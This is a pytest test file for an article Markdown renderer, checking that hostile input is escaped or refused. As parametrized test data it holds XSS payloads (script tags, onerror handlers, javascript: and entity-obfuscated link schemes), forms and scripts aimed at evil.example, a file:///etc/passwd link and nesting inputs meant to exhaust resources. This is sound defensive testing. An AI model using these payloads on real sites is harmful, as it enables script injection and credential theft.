"""Hostile text ends in a refusal or in safe HTML, and no word is lost: RELIABILITY 29 and 30."""

import json
import os
import re
import signal
import subprocess
import sys
import threading
import unicodedata
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import pytest

from articles import markdown_child, rendering
from articles.rendering import contents, headings, render
from articles.text import SECTION_LIMIT, TextRefused, normalise

pytestmark = pytest.mark.once

# All that a text may hold, said a second time: what the child allows is compared with this.
INLINE = {"a", "abbr", "br", "code", "del", "em", "strong", "sub", "sup"}
BLOCKS = {"blockquote", "dd", "div", "dl", "dt", "hr", "li", "ol", "p", "pre", "ul"}
TABLE = {"table", "tbody", "td", "th", "thead", "tr"}
TAGS = INLINE | BLOCKS | TABLE | {"h1", "h2", "h3", "h4", "h5", "h6"}
CLASSES = {"admonition note", "admonition warning", "admonition-title", "footnote", "footnote-ref", "footnote-backref"}
ADDRESS = re.compile(r"https?://[^/]|mailto:.|/[^/\\]|/$|#.")


@pytest.fixture(autouse=True)
def _nothing_remembered() -> Iterator[None]:
    render.cache_clear()
    yield
    render.cache_clear()


class Reader(HTMLParser):
    """What a browser makes of the HTML: the words, the links, and whatever must never be there."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.seen = ""
        self.faults: list[str] = []
        self.ids: list[str] = []
        self.links: list[str] = []
        self.open: list[str] = []
        self.feed(html)
        self.close()
        self.faults += [f"<{tag}> is never closed" for tag in self.open]

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        named = {name: value or "" for name, value in attrs}
        if tag not in TAGS:
            self.faults.append(f"<{tag}>")
        if tag == "a" and "href" not in named:
            self.faults.append("a link without an address")
        if tag not in {"br", "hr"}:
            self.open.append(tag)
        self.links += [named["href"]] if "href" in named else []
        self.ids += [named["id"]] if "id" in named else []
        self.faults += [f'{tag} {name}="{value}"' for name, value in named.items() if not lawful(tag, name, value)]

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.faults.append(f"</{tag}> closes nothing")

    def handle_data(self, data: str) -> None:
        self.seen += data

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.faults.append(f"<!{decl}>")

    def handle_pi(self, data: str) -> None:
        self.faults.append(f"<?{data}>")

    def unknown_decl(self, data: str) -> None:
        self.faults.append(f"<![{data}]>")


def lawful(tag: str, name: str, value: str) -> bool:
    """Whether a text may hold this attribute."""
    match name:
        case "href":
            return tag == "a" and ADDRESS.match(value) is not None
        case "rel":
            return tag == "a" and value == "noopener noreferrer"
        case "class":
            return value in CLASSES
        case "id":
            return value.startswith(("s-", "fn:", "fnref:"))
        case "aria-label":
            return tag == "a" and value.startswith("Source ")
        case "start":
            return tag == "ol" and value.isdecimal()
    return False


def hidden(words: str) -> list[str]:
    """The characters that no reader sees, and the digits they would misread."""
    faults = {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp", "Nd"}
    plain = {"\n", "\t", *"0123456789"}
    return [f"U+{ord(each):04X}" for each in words if unicodedata.category(each) in faults and each not in plain]


def safe(html: str) -> Reader:
    """Holds that the HTML is safe for any reader, and returns what they see."""
    reader = Reader(html)
    assert reader.faults == []
    assert len(set(reader.ids)) == len(reader.ids)
    assert hidden(reader.seen + "".join(reader.links)) == []
    return reader


def end(typed: str) -> tuple[str, str]:
    """How a text ends: its HTML and no refusal, or no HTML and the refusal."""
    try:
        return render(normalise(typed)), ""
    except TextRefused as refusal:
        return "", str(refusal)


def spread(piece: str, times: int) -> str:
    """A piece repeated so many times, divided into sections within their limit."""
    each = (SECTION_LIMIT - 100) // len(piece)
    parts = [piece * min(each, times - start) for start in range(0, times, each)]
    return "\n\n".join(f"## Part {number}\n\n{part}" for number, part in enumerate(parts, start=1))


# Raw HTML: way 29


@pytest.mark.parametrize(
    "typed",
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        '<img src=x onerror="alert(1)">',
        '<p onclick="alert(1)" onmouseover=alert(1)>words</p>',
        '<a href="javascript:alert(1)">words</a>',
        "<style>.stamp{display:none}</style>",
        '<p style="position:fixed;inset:0">words</p>',
        '<link rel=stylesheet href="https://evil.example">',
        "<svg onload=alert(1)><script>1</script></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<form action=https://evil.example><input name=password></form>",
        "<base href=https://evil.example/>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<template><p>words</p></template>",
        '<div class="stamp reviewed" id="stamp">Medically reviewed, Clara Test</div>',
        "</div></article></main><h1>Reviewed</h1>",
        "<!-- hidden words -->",
        "<!DOCTYPE html>",
        "<![CDATA[ words ]]>",
        "<?php words ?>",
        "<plaintext>",
        "<b>bold</b>",
    ],
)
def test_raw_html_is_shown_to_the_reader_as_it_was_typed(typed: str) -> None:
    body = (
        f"Before {typed} after.\n\n{typed}\n\n## {typed}\n\n| a | b |\n|---|---|\n| {typed} | b |\n\n"
        f"!!! note\n    {typed}\n\nTerm\n:   {typed}\n\nWords[^1]\n\n    {typed}\n\n[^1]: {typed}\n"
    )
    reader = safe(render(normalise(body)))
    assert f"Before {typed} after." in reader.seen
    assert reader.seen.count(typed) == 8


COMPARISONS = [
    "dose <5 mg",
    "dose < 5 mg and > 2 mg",
    "<5 mg",
    "<high or >low",
    "5<x<7 and y>3",
    "a<b>c",
    "x <y z",
    "< p",
    "</",
    "<",
    "1 & 2 &copy 3 &; &# &#; &zzz;",
    "\\<5",
]


def test_signs_of_comparison_keep_every_word() -> None:
    assert safe(render("\n\n".join(COMPARISONS))).seen.split("\n") == COMPARISONS


@pytest.mark.parametrize("typed", ["<5 mg", "<high or >low"])
def test_a_text_of_nothing_but_a_comparison_is_kept(typed: str) -> None:
    assert safe(render(typed)).seen == typed


@pytest.mark.parametrize(
    ("typed", "words"),
    [
        pytest.param("One.\n\n[Warning]: never", "Warning never", id="a line that looks like a definition"),
        pytest.param('One.\n\n[dose]: https://example.org "never"', "dose never", id="a definition nobody uses"),
        pytest.param("[a][b]\n\n[b]: /one/\n\n[b]: /other/", "/one/ /other/", id="a definition written twice"),
        pytest.param("Dose[^1]\n\n[^1]: never two\n\n[^1]: take one", "never take", id="a note written twice"),
        pytest.param("| a | b |\n|---|---|\n| 1 | 2 | never |", "never", id="a cell too many"),
        pytest.param("[dose](https://example.org 'never')", "dose never", id="the title of a link"),
        pytest.param("!!! warning never with alcohol\n    words", "never alcohol words", id="a title without quotes"),
        pytest.param("Dose[^9] a day", "Dose[^9]", id="a note that does not exist"),
        pytest.param("One.\n\n[^1]: a note nobody uses", "note nobody uses", id="a note nobody uses"),
        pytest.param("![picture][none] and [link][none]", "![picture][none] [link][none]", id="links to nothing"),
        pytest.param("`one` ``two`` *three* ***four*** _five_", "one two three four five", id="emphasis"),
        pytest.param("```python\none\n```\n\n~~~\ntwo\n~~~", "python one two", id="fences"),
        pytest.param(
            "*[HTML]: one\n\nHTML {: .class } [TOC]", "*[HTML]: one .class [TOC]", id="extensions that are off"
        ),
        pytest.param("!!! seal\n    words", "Seal words", id="a callout of no known kind"),
        pytest.param("- one\n\n    - two\n\n1. three\n* four", "one two three four", id="lists"),
        pytest.param("Term\n:   one\n\n    two\n\n: three", "Term one two three", id="a list of meanings"),
        pytest.param("One\n===\n\nTwo\n---\n\n####### Seven", "One Two Seven", id="headings"),
    ],
)
def test_no_word_is_lost_without_a_refusal(typed: str, words: str) -> None:
    html, refusal = end(typed)
    reader = safe(html)
    assert refusal or [word for word in words.split() if word not in reader.seen and word not in reader.links] == []


# Links: way 29


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "<javascript:alert(1)>",
        "java\tscript:alert(1)",
        "javascript&#58;alert(1)",
        "javascript&colon;alert(1)",
        "java&#115;cript:alert(1)",
        "&#x6A;avascript:alert(1)",
        "java&Tab;script:alert(1)",
        "java&NewLine;script:alert(1)",
        "javascript:123",
        "javascript://example.org/%0aalert(1)",
        "vbscript:1",
        "data:1",
        "data:text/html;base64,PHNjcmlwdD4=",
        "data:image/svg+xml,words",
        "blob:https://example.org/1",
        "file:///etc/passwd",
        "ftp://example.org",
        "//evil.example",
        "/\\evil.example",
        "\\\\evil.example",
        "https:evil.example",
        "relative",
        "?query",
        "https://example.org/{{ members }}",
        "/{{ members }}",
    ],
)
def test_a_link_that_is_not_plain_is_refused_by_its_address(address: str) -> None:
    with pytest.raises(TextRefused, match=r"(?s)the link address “.*” is not allowed"):
        render(normalise(f"Some [words]({address}) here."))


@pytest.mark.parametrize("address", ["javascript:alert(1)", "javascript&#58;alert(1)", "data:1", "//evil.example"])
def test_a_definition_or_a_heading_hides_no_such_link(address: str) -> None:
    for typed in (f"[words][x]\n\n[x]: {address}", f"[x]\n\n[x]: <{address}>", f"## [words]({address})"):
        html, refusal = end(typed)
        assert "is not allowed" in refusal or safe(html).links == []


def test_what_is_no_link_stays_words() -> None:
    typed = [
        "<javascript:alert(1)>",
        "[words](javascript:alert(1)",
        "[words] (javascript:alert(1))",
        "javascript:alert(1)",
    ]
    reader = safe(render("\n\n".join([*typed, "`[words](data:1)`", "    [words](data:1)"])))
    assert reader.links == []
    assert reader.seen.split("\n")[:6] == [*typed, "[words](data:1)", "[words](data:1)"]


@pytest.mark.parametrize(
    "address",
    [
        'https://example.org" onmouseover="alert(1)',
        "https://example.org:99999/",
        "https://exa mple.org/",
        "https://[::1/",
        "https://%zz/",
    ],
)
def test_a_link_is_refused_or_still_leads_somewhere_and_is_never_silently_dropped(address: str) -> None:
    html, refusal = end(f"[words]({address})")
    assert refusal or safe(html).links


@pytest.mark.parametrize(
    ("typed", "address"),
    [
        ("[words](https://example.org/a?b=1&c=2#d)", "https://example.org/a?b=1&c=2#d"),
        ("[words](http://example.org)", "http://example.org"),
        ("<https://example.org/>", "https://example.org/"),
        ("[words](mailto:ada@example.org)", "mailto:ada@example.org"),
        ("<ada@example.org>", "mailto:ada@example.org"),
        ("[words](/conditions/)", "/conditions/"),
        ("[words](#s-treatment)", "#s-treatment"),
    ],
)
def test_a_plain_link_leads_where_it_says_and_gives_nothing_away(typed: str, address: str) -> None:
    html = render(typed)
    assert safe(html).links == [address]
    assert html.count('rel="noopener noreferrer"') == 1


def test_an_image_is_refused_with_the_remedy() -> None:
    with pytest.raises(TextRefused, match=r"an image\. Images are not possible yet; describe it in words"):
        render("![scan](https://example.org/scan.png)")


def test_an_image_with_a_definition_is_refused_or_stays_words() -> None:
    html, refusal = end("![scan][x]\n\n[x]: https://example.org/scan.png")
    assert "Images are not possible" in refusal or safe(html).seen.startswith("![scan][x]")


# Forged badges, ids, classes: way 29


@pytest.mark.parametrize(
    "typed",
    [
        '!!! stamp "Medically reviewed"\n    Clara Test, MD',
        '!!! note stamp reviewed "Medically reviewed"\n    Clara Test, MD',
        "Medically reviewed {: .stamp #stamp }",
        "## Medically reviewed {#stamp .stamp}",
        '[Medically reviewed](/reviewers/clara/){: class="stamp" }',
        "Words[^stamp]\n\n[^stamp]: Medically reviewed",
        'Words[^a"class="stamp]\n\n[^a"class="stamp]: Medically reviewed',
    ],
)
def test_an_author_draws_no_badge_with_classes_or_ids(typed: str) -> None:
    html, refusal = end(typed)
    # `safe` knows every class, and the prefix of every id, that a text may hold.
    assert refusal or "Medically reviewed" in safe(html).seen


def test_the_id_of_a_heading_has_a_prefix() -> None:
    titles = ["cookie", "main", "stamp", "__proto__", "s", "fn:1", "名前"]
    anchors = safe(render("\n\n".join(f"{'#' * level} {title}" for level in range(1, 7) for title in titles))).ids
    assert len(anchors) == 6 * len(titles)
    assert all(anchor.startswith("s-") for anchor in anchors)


def test_a_heading_called_cookie_shadows_nothing_in_the_browser() -> None:
    assert render("# cookie") == '<h1 id="s-cookie">cookie</h1>'


def test_equal_headings_get_ids_of_their_own() -> None:
    assert len(set(safe(render("## Dose\n\n## Dose\n\n## Dose")).ids)) == 3


def test_a_callout_keeps_the_class_of_the_design() -> None:
    assert '<div class="admonition warning">' in render("!!! warning\n    Never two.")


def test_a_link_to_a_source_becomes_the_raised_number() -> None:
    html = render("Known [2](#source-2).")
    assert safe(html).links == ["#source-2"]
    assert '<sup><a href="#source-2" aria-label="Source 2" rel="noopener noreferrer">2</a></sup>.' in html


# Characters that come into being on the way: way 30


@pytest.mark.parametrize("code", ["#8238", "#x200B"])
@pytest.mark.parametrize(
    "trick",
    [
        "&\\CODE;",
        "## Dose &\\CODE;",
        "[dose &\\CODE;](https://example.org)",
        "[dose](https://example.org/&\\CODE;)",
        "| a |\n|---|\n| &\\CODE; |",
        '!!! note "&\\CODE;"\n    words',
        "words[^1]\n\n[^1]: &\\CODE;",
        "&#38;CODE;",
        "&amp;\\CODE;",
        "`&\\CODE;`",
        "    &\\CODE;",
        "&**CODE**;",
    ],
)
def test_no_trick_with_an_entity_brings_a_hidden_character_to_the_reader(trick: str, code: str) -> None:
    html, refusal = end(trick.replace("CODE", code))
    assert refusal or safe(html)


@pytest.mark.parametrize("code", ["#14", "#x202e", "#8294", "#xFEFF", "#173", "#1635"])
def test_an_escaped_entity_is_no_way_round_the_refused_characters(code: str) -> None:
    html, refusal = end(f"&\\{code};")
    assert refusal or safe(html)


# Sizes and nests: way 29


@pytest.mark.parametrize(
    "body",
    [
        pytest.param(spread("[", 10_000), id="brackets opened"),
        pytest.param("[" * 9_900 + "]" * 9_900, id="brackets nested"),
        pytest.param(spread("![a](", 10_000), id="images opened"),
        pytest.param(spread("> ", 10_000), id="quotes"),
        pytest.param(">" * 10_000 + " deep", id="quotes on one line"),
        pytest.param("*" * 9_000 + "deep" + "*" * 9_000, id="emphasis nested"),
        pytest.param(spread("*a **b", 10_000), id="emphasis opened"),
        pytest.param(spread("<a ", 10_000), id="tags opened"),
        pytest.param("\n".join(" " * 4 * depth + "- a" for depth in range(95)), id="lists inside lists"),
        pytest.param("|" * 500 + "\n" + "|".join(["-"] * 500) + "\n" + "|\n" * 5_000, id="a table"),
        pytest.param("\n".join(f"[^{number}]: a" for number in range(1_500)), id="notes"),
        pytest.param("# a\n" * 4_000, id="headings"),
        pytest.param("a\n: b\n" * 3_000, id="meanings"),
    ],
)
def test_ten_thousand_nested_marks_end_in_safe_html_or_a_clear_refusal(body: str) -> None:
    html, refusal = end(body)
    if refusal:
        assert refusal.startswith("Text: ")
        assert len(refusal) < 300
    else:
        assert safe(html).seen.count("deep") == body.count("deep")


@pytest.mark.parametrize(
    "body",
    [
        pytest.param("a" * 1_000_000, id="one line"),
        pytest.param("\n\n".join(["## Part\n\n" + "a " * 8_000] * 62), id="in lawful sections"),
    ],
)
def test_a_body_of_a_megabyte_is_refused_with_the_limit(body: str) -> None:
    with pytest.raises(TextRefused, match="at most 100,000 fit"):
        render(body)


@pytest.mark.parametrize("length", [10, 15_000])
def test_a_definition_used_six_thousand_times_is_shown_or_refused(length: int) -> None:
    html, refusal = end(f"[x]: https://example.org/{'a' * length}\n\n" + spread("[x], ", 6_000))
    assert len(html) < 1_100_000
    assert "too long" in refusal or len(safe(html).links) in {0, 6_000}


# The child with its limits: way 29


def test_a_text_that_would_hang_is_refused() -> None:
    with pytest.raises(TextRefused, match="takes too long to turn into a page"):
        render("[" * 19_000)


def test_a_child_that_does_not_end_by_itself_is_ended(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    endless = tmp_path / "endless.py"
    endless.write_text("import signal\nsignal.pause()\n")
    monkeypatch.setattr(rendering, "CHILD", endless)
    monkeypatch.setattr(rendering, "PATIENCE_SECONDS", 0.2)
    with pytest.raises(TextRefused, match="takes too long to turn into a page"):
        render("Words.")


@pytest.mark.parametrize("ending", ["raise MemoryError", "raise RecursionError", "import os; os.kill(os.getpid(), 9)"])
def test_a_child_that_breaks_refuses_the_text(ending: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    broken = tmp_path / "broken.py"
    broken.write_text(ending)
    monkeypatch.setattr(rendering, "CHILD", broken)
    with pytest.raises(TextRefused, match="takes too long to turn into a page"):
        render("Words.")


def child(program: str) -> "subprocess.CompletedProcess[str]":
    """How a program ends that runs as the child does, with the child's module at hand."""
    folder = str(Path(markdown_child.__file__).parent)
    packages = [path for path in sys.path if path.endswith("-packages")]
    start = f"import sys; sys.path.insert(0, {folder!r}); import markdown_child, resource\n"
    return subprocess.run(
        [sys.executable, "-I", "-S", "-c", f"{start}{program}\nmarkdown_child.main()", *packages],
        input=json.dumps("Words."),
        capture_output=True,
        encoding="utf-8",
        check=False,
    )


def test_the_child_works_inside_limits_of_time_and_memory() -> None:
    asked = child(
        "markdown_child.answer = lambda text: {'cpu': resource.getrlimit(resource.RLIMIT_CPU), "
        "'memory': resource.getrlimit(resource.RLIMIT_AS)}"
    )
    assert json.loads(asked.stdout) == {"cpu": [2, 2], "memory": [512 * 1024**2, 512 * 1024**2]}


def test_the_system_ends_a_child_that_computes_without_end() -> None:
    ended = child("def answer(text):\n    while True: pass\nmarkdown_child.answer = answer")
    assert ended.returncode in {-signal.SIGKILL, -signal.SIGXCPU}


def test_the_system_gives_a_child_no_more_memory_than_its_own() -> None:
    ended = child("markdown_child.answer = lambda text: {'html': 'a' * 2**30}")
    assert ended.returncode == 1
    assert "MemoryError" in ended.stderr


def test_output_out_of_all_proportion_is_refused() -> None:
    assert "<p>Words.</p>" in child("").stdout
    refused = json.loads(child("markdown_child.OUTPUT = 10").stdout)
    assert "becomes too long as a page" in refused["refused"]


def test_the_child_knows_no_secret_of_the_site(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    telling = tmp_path / "telling.py"
    telling.write_text("import json, os\nprint(json.dumps({'html': ' '.join(os.environ)}))\n")
    monkeypatch.setattr(rendering, "CHILD", telling)
    told = render("Words.").split()
    assert {"SECRET_KEY", "SECOND_FACTOR_KEYS", "DATABASE_URL", "EMAIL_URL"} & set(told) == set()


@pytest.mark.parametrize("seed", ["1", "2"])
def test_the_same_text_gives_the_same_bytes_in_another_process(seed: str) -> None:
    body = normalise(
        "Opening with {{ members }} and <5 mg.\n\n## Dose\n\n## Dose\n\nKnown [1](#source-1) and[^1], "
        "<ada@example.org>.\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nTerm\n:   meaning\n\n!!! note\n    Words.\n\n"
        "[^1]: A note.\n"
    )
    program = (
        "import json, sys, django; django.setup()\n"
        "from articles.rendering import render\nsys.stdout.write(render(json.loads(sys.stdin.read())))"
    )
    there = subprocess.run(
        [sys.executable, "-c", program],
        input=json.dumps(body),
        capture_output=True,
        encoding="utf-8",
        check=True,
        env={**os.environ, "PYTHONHASHSEED": seed, "DJANGO_SETTINGS_MODULE": "tests.settings"},
        cwd=Path(rendering.__file__).parent.parent,
    )
    assert there.stdout == render(body)


# What is read from the HTML


def test_the_contents_list_the_sections_in_order() -> None:
    html = render("Opening\n\n## First & <last>\n\n### Deeper\n\n## *Second* `code`\n\nwords")
    assert contents(html) == [("s-first-last", "First & <last>"), ("s-second-code", "Second code")]


def test_the_headings_come_with_their_level() -> None:
    html = render("# One\n\n### Three\n\n## Two")
    assert headings(html) == [(1, "One"), (3, "Three"), (2, "Two")]


def test_a_heading_that_was_only_typed_as_html_or_code_is_none() -> None:
    html = render("<h2 id='s-x'>words</h2>\n\n`## code`\n\n    ## code")
    assert contents(html) == []
    assert headings(html) == []


def test_a_text_without_a_word_is_empty() -> None:
    assert render("") == ""
    assert contents("") == []


def test_the_token_of_members_stays_a_token() -> None:
    assert render("Ask {{ members }}.") == "<p>Ask {{ members }}.</p>"


def test_a_crowd_is_rendered_two_at_a_time_so_that_no_plain_text_looks_slow(monkeypatch: pytest.MonkeyPatch) -> None:
    both_inside, a_third_comes_in = threading.Barrier(2), []

    def child(*_: object, **__: object) -> subprocess.CompletedProcess[str]:
        both_inside.wait(60)
        a_third_comes_in.append(rendering.TURN.acquire(blocking=False))
        both_inside.wait(60)
        return subprocess.CompletedProcess([], 0, json.dumps({"html": "<p>Words.</p>"}))

    monkeypatch.setattr(subprocess, "run", child)
    threads = [threading.Thread(target=render, args=[f"Words {number}."]) for number in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(60)
    assert a_third_comes_in == [False] * 4
